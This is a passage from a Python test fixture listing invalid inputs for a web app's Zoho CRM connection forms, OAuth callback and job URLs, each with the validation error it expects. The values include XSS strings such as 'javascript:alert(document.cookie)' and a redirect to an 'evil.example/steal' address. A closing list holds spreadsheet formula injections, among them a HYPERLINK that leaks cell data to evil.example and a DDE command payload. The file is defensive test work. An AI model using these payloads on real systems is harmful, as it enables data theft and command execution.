        BAD_PAGE,
        "record-search-page-abc",
        data={"record_id": "738964000002131264"},
    ),
    _get("audit:job-exchanges", "page", "-1", BAD_PAGE, "exchanges-page-negative", on=FINISHED),
    # --- Connections (a manager's forms) -------------------------------------------------------
    _connection("name", "", "This field is required.", "name-empty"),
    _connection(
        "name",
        "n" * 101,
        "Ensure this value has at most 100 characters (it has 101).",
        "name-too-long",
    ),
    _connection("name", "Org\x00", NULL, "name-nul"),
    _connection("name", "Sandbox", "Connection with this Name already exists.", "name-taken"),
    _connection(
        "name",
        SCRIPT,
        SCRIPT,
        "name-script",
        accepted={"name": SCRIPT},
        shown_on=("zoho:connection-list",),
    ),
    _connection(
        "data_centre",
        "XX",
        "Select a valid choice. XX is not one of the available choices.",
        "data-centre-unknown",
    ),
    _connection(
        "accounts_url",
        "javascript:alert(1)",
        "Enter a valid URL.",
        "url-javascript",
        data={"data_centre": "CUSTOM", "api_domain": "https://crm.example.com"},
    ),
    _connection(
        "api_domain",
        "https://" + "a" * 250 + ".com",
        "Ensure this value has at most 200 characters",
        "url-too-long",
        data={"data_centre": "CUSTOM", "accounts_url": "https://accounts.example.com"},
    ),
    _connection(
        "accounts_url",
        "",
        "Required for a Custom data centre.",
        "url-missing-for-custom",
        data={"data_centre": "CUSTOM", "api_domain": "https://crm.example.com"},
    ),
    _connection(
        "client_id",
        "c" * 201,
        "Ensure this value has at most 200 characters (it has 201).",
        "client-id-too-long",
    ),
    _connection("concurrency_limit", "0", "Allow at least one call at a time.", "concurrency-zero"),
    _connection(
        "concurrency_limit",
        "-1",
        "Ensure this value is greater than or equal to 0.",
        "concurrency-negative",
    ),
    _connection("concurrency_limit", str(2**63), "At most 100: Zoho allows", "concurrency-2**63"),
    _connection("concurrency_limit", "ten", "Enter a whole number.", "concurrency-words"),
    _connection(
        "concurrency_limit",
        "\u0663",
        "Type it with the digits 0 to 9 (“\u0663” is not one of them).",
        "concurrency-arabic-indic-3",
    ),
    _connection("concurrency_limit", "101", "At most 100: Zoho allows", "concurrency-101"),
    _connection(
        "redirect_uri",
        "javascript:alert(document.cookie)",
        "Enter a full address",
        "redirect-uri-javascript",
    ),
    _connection(
        "redirect_uri",
        "https://evil.example/steal",
        "ending in /connections/oauth/callback/",
        "redirect-uri-elsewhere",
    ),
    _connection(
        "redirect_uri",
        "http://crm.example.com/connections/oauth/callback/",
        "Use https",
        "redirect-uri-plain-http",
    ),
    Entry(
        "self-client-code-empty",
        "zoho:connection-self-client",
        "code",
        "",
        "This field is required.",
        on=CONNECTION,
        by=MANAGER,
    ),
    Entry(
        "self-client-code-too-long",
        "zoho:connection-self-client",
        "code",
        "c" * 501,
        "Ensure this value has at most 500 characters (it has 501).",
        on=CONNECTION,
        by=MANAGER,
    ),
    Entry(
        "self-client-code-script",
        "zoho:connection-self-client",
        "code",
        SCRIPT,
        "Exchanging the code failed",
        on=CONNECTION,
        by=MANAGER,
    ),
    _get(
        "zoho:oauth-callback",
        "state",
        SCRIPT,
        "This sign-in answer does not match a Connect you started here.",
        "oauth-callback-state-script",
        on=CONNECTION,
        by=MANAGER,
        data={"code": "1000.abc"},
    ),
    _get(
        "zoho:oauth-callback",
        "error",
        SCRIPT,
        "This sign-in answer does not match a Connect you started here.",
        "oauth-callback-error-without-state",
        on=CONNECTION,
        by=MANAGER,
    ),
    _get(
        "zoho:oauth-callback",
        "accounts-server",
        "javascript:alert(1)",
        "This sign-in answer does not match a Connect you started here.",
        "oauth-callback-accounts-server-javascript",
        on=CONNECTION,
        by=MANAGER,
        data={"state": "x" * 201, "code": "1000.abc"},
    ),
    _callback(
        "error",
        SCRIPT,
        f"Zoho refused the authorization ({SCRIPT}). Nothing changed.",
        "error-script",
    ),
    _callback(
        "accounts-server",
        "javascript:alert(1)",
        "Zoho's answer was not understood: Enter a valid URL.",
        "accounts-server-javascript",
        data={"code": "1000.abc"},
    ),
    _callback(
        "code",
        "c" * 1001,
        "Zoho's answer was not understood: Ensure this value has at most 1000 characters",
        "code-too-long",
    ),
    _callback("code", "", "Zoho sent back neither a code nor an error.", "nothing"),
    _callback("code", SCRIPT, "Connecting failed", "code-script"),
    # --- Ids in URLs: 20 digits, as no job or connection has ---------------------------------
    _unknown_id("massupdate:job-detail", TWENTY_DIGITS, "job-detail-20-digits"),
    _unknown_id("massupdate:job-changes", TWENTY_DIGITS, "job-changes-20-digits"),
    _unknown_id("massupdate:job-records", TWENTY_DIGITS, "job-records-20-digits"),
    _unknown_id(
        "massupdate:job-records-select",
        TWENTY_DIGITS,
        "job-records-select-20-digits",
        method="POST",
        path="paste",
    ),
    _unknown_id("massupdate:job-preview", TWENTY_DIGITS, "job-preview-20-digits"),
    _unknown_id("massupdate:job-confirm", TWENTY_DIGITS, "job-confirm-20-digits", method="POST"),
    _unknown_id("massupdate:job-cancel", TWENTY_DIGITS, "job-cancel-20-digits", method="POST"),
    _unknown_id("massupdate:job-export", TWENTY_DIGITS, "job-export-20-digits"),
    _unknown_id("massupdate:job-approval", TWENTY_DIGITS, "job-approval-20-digits", by=MANAGER),
    _unknown_id("audit:job-detail", TWENTY_DIGITS, "audit-job-20-digits"),
    _unknown_id("audit:job-exchanges", TWENTY_DIGITS, "audit-exchanges-20-digits"),
    _unknown_id("audit:job-export-json", TWENTY_DIGITS, "audit-json-20-digits"),
    _unknown_id(
        "audit:job-review", TWENTY_DIGITS, "audit-review-20-digits", method="POST", by=MANAGER
    ),
    _unknown_id("zoho:connection-detail", TWENTY_DIGITS, "connection-20-digits", by=MANAGER),
    _unknown_id(
        "zoho:connection-connect", TWENTY_DIGITS, "connect-20-digits", method="POST", by=MANAGER
    ),
    _unknown_id("zoho:connection-test", TWENTY_DIGITS, "test-20-digits", method="POST", by=MANAGER),
    _unknown_id(
        "zoho:connection-disconnect",
        TWENTY_DIGITS,
        "disconnect-20-digits",
        method="POST",
        by=MANAGER,
    ),
    _unknown_id("massupdate:job-detail", "0", "job-detail-zero"),
]


# Formulas that a spreadsheet would run, put into a text field and the reason and the review
# note of a job that then runs; "where" says how the value enters: typed into the forms (which
# strip surrounding white space), or already in the CRM as the field's current value.
FORMULAS: list[tuple[str, str]] = [
    ("hyperlink", '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'),
    ("equals", "=1+1"),
    ("plus", "+1+1"),
    ("minus", "-2+3"),
    ("at", "@SUM(A1:A9)"),
    ("dde", "=cmd|' /C calc'!A0"),
    ("tab", "\t=1+1"),
    ("carriage-return", "\r=1+1"),
]
